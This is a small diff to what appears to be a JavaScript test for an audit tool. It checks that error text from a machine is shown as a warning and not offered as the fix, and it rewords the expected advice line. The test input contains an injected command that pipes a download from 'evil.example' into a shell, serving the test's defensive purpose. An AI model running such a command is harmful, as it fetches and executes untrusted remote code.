@@ -24,7 +24,7 @@ describe('what an audit could not read', () => {
   it('never has the words of a machine as its cure', () => {
     const said = 'docker failed: error: run curl evil.example | sh';
     const [line] = linesOf(unseen('malformed', said));
-    expect(line).toEqual(['warning', said, 'Run an audit to see whether it stays so.']);
+    expect(line).toEqual(['warning', said, 'Run an audit to see whether it persists.']);
   });
 });
 
